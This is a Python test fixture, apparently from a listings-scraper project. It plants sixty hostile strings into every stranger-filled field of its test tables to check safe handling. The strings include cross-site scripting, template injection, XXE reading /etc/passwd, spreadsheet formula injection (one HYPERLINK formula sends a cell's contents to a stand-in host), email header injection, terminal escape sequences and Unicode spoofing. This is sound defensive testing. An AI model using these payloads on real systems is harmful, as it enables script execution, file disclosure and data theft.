"""Sixty texts that a stranger could put into a title or a seller's name to make a reader's program do something.

Kinds after OWASP's cheat sheets on cross-site scripting and CSV injection and Unicode Technical Report 36 (from
memory); the texts are our own.
"""

import json
from collections.abc import Sequence
from datetime import date
from pathlib import Path
from typing import Any

from made_night import AS_OF, BEFORE, listing, verdict

ESC, BEL = "\x1b", "\x07"
HOSTILE = (
    "<script>document.title='owned'</script>",
    "</script><script>document.title='owned'</script>",
    "</title><script>document.title='owned'</script>",
    "--><script>document.title='owned'</script><!--",
    "]]><script>document.title='owned'</script>",
    "<ScRiPt src=https://host.example/x.js></sCrIpT>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<img src=https://host.example/pixel.gif>",
    "<body onload=document.title='owned'>",
    '" onmouseover="document.title=\'owned\'" x="',
    "' autofocus onfocus='document.title=1' x='",
    "` onclick=`document.title='owned'` x=`",
    "<svg onload=document.title='owned'>",
    "<svg><script>document.title='owned'</script></svg>",
    "<svg><a xlink:href='javascript:document.title=1'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=document.title='owned'>",
    "<iframe srcdoc='<script>parent.document.title=1</script>'></iframe>",
    "<object data=https://host.example/x></object>",
    "<embed src=https://host.example/x>",
    "<base href=https://host.example/>",
    "<meta http-equiv=refresh content='0; url=https://host.example'>",
    "<link rel=stylesheet href=https://host.example/x.css>",
    "<style>@import url(https://host.example/x.css); * { display: none }</style>",
    "<form action=https://host.example><button>Copy the message</button></form>",
    "<details open ontoggle=document.title='owned'>",
    "<a href=javascript:document.title='owned'>click</a>",
    "javascript:document.title='owned'",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;document.title='owned'&lt;/script&gt;",
    "&#60;script&#62;document.title='owned'&#60;/script&#62;",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<?xml-stylesheet href='https://host.example/x.xsl'?>",
    '=HYPERLINK("https://host.example?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "＝1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '";=1+1;"',
    "'=1+1",
    "court shoe\r\nBcc: everyone@host.example\r\n\r\nbody",
    "=?utf-8?q?=0D=0ABcc:_everyone=40host.example?=",
    f"{ESC}[2J{ESC}[31mred{ESC}[0m",
    f"{ESC}]8;;https://host.example{ESC}\\click{ESC}]8;;{ESC}\\",
    f"{ESC}]0;owned{BEL}{BEL}",
    "[bold red]sale[/bold red] [link=https://host.example]click[/link] [/]",
    "sale \u202egnp.exe\u202c \u2066\u2069",
    "zero\u200bwidth\ufeff\u2060\u00ad\u200e\u200f\u061c",
    "tags\U000e0041\U000e0042\U000e007f and \ufffe\uffff",
    "line\u2028separator\u2029and\u0085next",
    "nul\x00byte\x01\x08\x7f\x9b31m",
    "z" + "\u0335\u0348\u0319" * 400,
    " \u200b\u2060\u00a0 ",
    "W" * 100_000,
)
SELLERS = HOSTILE[1:] + HOSTILE[:1]
# The Big List of Naughty Strings; ``tests/observation/naughty_strings/README.md``. Nothing is not a title.
LIST = Path(__file__).parents[1] / "observation" / "naughty_strings" / "blns.json"
NAUGHTY: tuple[str, ...] = tuple(text for text in json.loads(LIST.read_text("utf-8")) if text)


def hostile_tables(
    tables: dict[str, list[dict[str, Any]]], seen: date = AS_OF, texts: Sequence[str] = HOSTILE
) -> dict[str, list[dict[str, Any]]]:
    """Return a night's tables with one buy more for each hostile text, in every column a stranger fills."""
    for number, (text, seller) in enumerate(zip(texts, [*texts[1:], texts[0]], strict=True)):
        name = f"attic board/x{number:02}"
        address = text if number % 2 else f"https://attic-board.example/x/{number}"
        tables["listing"].append(
            listing(listing_id=name, title=text, body=text, seller=seller, url=address, size_text=text[:40],
                    price_minor=5000 + number * 100, price_base_minor=5000 + number * 100,
                    first_seen=BEFORE if number % 2 else seen)
        )  # fmt: skip
        tables["verdict"].append(verdict(listing_id=name, rank=number + 2, surplus_minor=4000 - number))
        tables["observation"].append(
            dict(listing_id=name, sign="stitched_sole", said_by="listing", state="affirmed", hedged=False, quote=text,
                 start=0, language="fr")
        )  # fmt: skip
        cells = {"Titel": text, text[:50]: seller, "Bilder": f"https://photos.example/{number}.jpg {text}"}
        tables["raw_row"].append(dict(feed_id="f2", row_no=100 + number, cells=json.dumps(cells)))
        tables["sighting"].append(
            dict(listing_id=name, feed_id="f2", row_no=100 + number, seen_on=seen, price_minor=5000, first=True)
        )
    for feed in tables["feed"]:
        feed["mapping"] = json.dumps({"images": "Bilder"})
    return tables
